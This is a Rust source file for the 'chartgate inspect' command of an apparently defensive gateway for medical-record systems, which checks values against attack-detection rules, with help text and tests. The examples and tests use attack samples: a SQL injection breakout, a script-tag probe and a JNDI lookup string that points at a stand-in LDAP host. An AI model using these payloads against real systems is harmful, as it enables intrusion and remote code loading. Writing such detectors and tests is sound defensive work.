//! `chartgate inspect`: what inspection makes of a value.

use clap::Args;
use serde_json::json;

use super::console::{Console, Failure};
use crate::inspect::{Inspector, RULES, Rule, Scope};

/// Try a value against the inspection rules, or list them.
///
/// Names each rule that would find an attack in the value, decoded once as a gateway sees it. Which fields are blocked
/// and which are only put on record is said in the EMR's profile; `chartgate policy explain` shows that for a whole
/// request. Ends with exit code 1 where a rule fires.
#[derive(Debug, Args)]
#[command(after_long_help = "Examples:\n  \
    chartgate inspect \"' OR 1=1--\"\n  \
    chartgate inspect \"pt c/o pain; select ESR or CRP\"\n  \
    chartgate inspect --header '${jndi:ldap://x.example/a}'\n  \
    chartgate inspect --list")]
pub struct InspectArgs {
    /// The value.
    #[arg(required_unless_present = "list", allow_hyphen_values = true)]
    value: Option<String>,
    /// The value is that of a header, which is looked at for lookup strings only.
    #[arg(long)]
    header: bool,
    /// List every rule with a value that it finds.
    #[arg(long, conflicts_with_all = ["value", "header"])]
    list: bool,
    /// Print one JSON document.
    #[arg(long)]
    json: bool,
}

/// Runs the command.
///
/// # Errors
/// [`Failure::Unfit`] where a rule fires.
pub fn run(args: &InspectArgs, console: &mut Console<'_>) -> Result<(), Failure> {
    let Some(value) = args.value.as_deref().filter(|_| !args.list) else {
        return list(args, console);
    };
    let scope = if args.header {
        Scope::Lookups
    } else {
        Scope::All
    };
    let mut fired: Vec<&'static Rule> = Vec::new();
    Inspector::new().look(value.as_bytes(), scope, &mut |rule| fired.push(rule));
    if args.json {
        let shown: Vec<_> = fired.iter().map(|rule| described(rule)).collect();
        console.line(json!({ "findings": shown }))?;
    } else if fired.is_empty() {
        console.line("nothing found")?;
    } else {
        for rule in &fired {
            console.line(format_args!("{:<22} {}", rule.id, rule.title))?;
        }
    }
    if fired.is_empty() {
        Ok(())
    } else {
        Err(Failure::Unfit)
    }
}

fn list(args: &InspectArgs, console: &mut Console<'_>) -> Result<(), Failure> {
    if args.json {
        let all: Vec<_> = RULES.iter().map(described).collect();
        return console.line(json!({ "rules": all }));
    }
    for rule in RULES {
        let example = rule.fires.first().copied().unwrap_or_default();
        console.line(format_args!(
            "{:<22} {}, like {}",
            rule.id,
            rule.title,
            example.escape_debug()
        ))?;
    }
    Ok(())
}

fn described(rule: &Rule) -> serde_json::Value {
    json!({ "rule": rule.id, "class": rule.class.word(), "title": rule.title })
}

/// The rules as a Markdown table, for `docs/inspection.md`.
#[cfg(test)]
fn table() -> String {
    let mut table =
        String::from("| rule | what it finds | for example | not |\n|---|---|---|---|\n");
    let code = |value: Option<&&str>| {
        let shown = value
            .copied()
            .unwrap_or_default()
            .escape_debug()
            .to_string();
        let shown = shown
            .replace("\\'", "'")
            .replace("\\\"", "\"")
            .replace('|', "\\|");
        if shown.contains('`') {
            format!("`` {shown} ``")
        } else {
            format!("`{shown}`")
        }
    };
    for rule in RULES {
        table.extend([
            "| `",
            rule.id,
            "` | ",
            rule.title,
            " | ",
            &code(rule.fires.first()),
            " | ",
            &code(rule.passes.first()),
            " |\n",
        ]);
    }
    table
}

#[cfg(test)]
mod tests {
    use super::super::console::testing::Captured;
    use super::super::{Exit, run as command};
    use super::*;
    use crate::clock::SystemClock;

    fn inspect(arguments: &[&str]) -> Captured {
        let mut line = vec!["chartgate", "inspect"];
        line.extend(arguments);
        Captured::run(|console| command(line, console, &SystemClock::shared()))
    }

    #[test]
    fn a_value_is_named_for_what_it_is() {
        let attack = inspect(&["' OR 1=1--"]);
        assert_eq!(attack.exit, Exit::Failed);
        assert!(attack.out.contains("sql-breakout "), "{}", attack.out);
        assert!(attack.err.is_empty(), "{}", attack.err);
        let text = inspect(&["pt c/o pain; select ESR or CRP"]);
        assert_eq!(
            (text.exit, text.out.as_str()),
            (Exit::Fine, "nothing found\n")
        );
        let json = inspect(&["--json", "<script>"]);
        let document: serde_json::Value = serde_json::from_str(&json.out).unwrap();
        assert_eq!(document["findings"][0]["class"], "xss");
        let header = inspect(&["--header", "<script>"]);
        assert_eq!(header.exit, Exit::Fine);
        assert_eq!(inspect(&["--header", "${jndi:x}"]).exit, Exit::Failed);
    }

    #[test]
    fn the_list_names_every_rule_and_so_does_the_manual() {
        let list = inspect(&["--list"]);
        assert_eq!(list.out.lines().count(), RULES.len());
        let manual = include_str!("../../docs/inspection.md");
        assert!(
            manual.contains(&table()),
            "docs/inspection.md must contain:\n{}",
            table()
        );
    }
}
